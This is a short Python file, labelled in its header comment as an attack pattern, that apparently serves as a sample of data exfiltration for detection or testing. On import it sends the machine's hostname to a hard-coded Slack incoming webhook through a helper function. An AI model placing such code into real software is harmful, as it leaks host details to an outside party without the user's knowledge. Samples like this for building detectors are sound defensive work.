# Attack pattern: hard-coded Slack incoming webhook reached through a helper function (exfiltration of host details).
import json
import socket
import urllib.request

_ENDPOINT = "https://hooks.slack.com/services/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"


def _post(url, payload):
    request = urllib.request.Request(url, data=json.dumps(payload).encode(), headers={"Content-Type": "application/json"})
    urllib.request.urlopen(request, timeout=5)


_post(_ENDPOINT, {"text": socket.gethostname()})
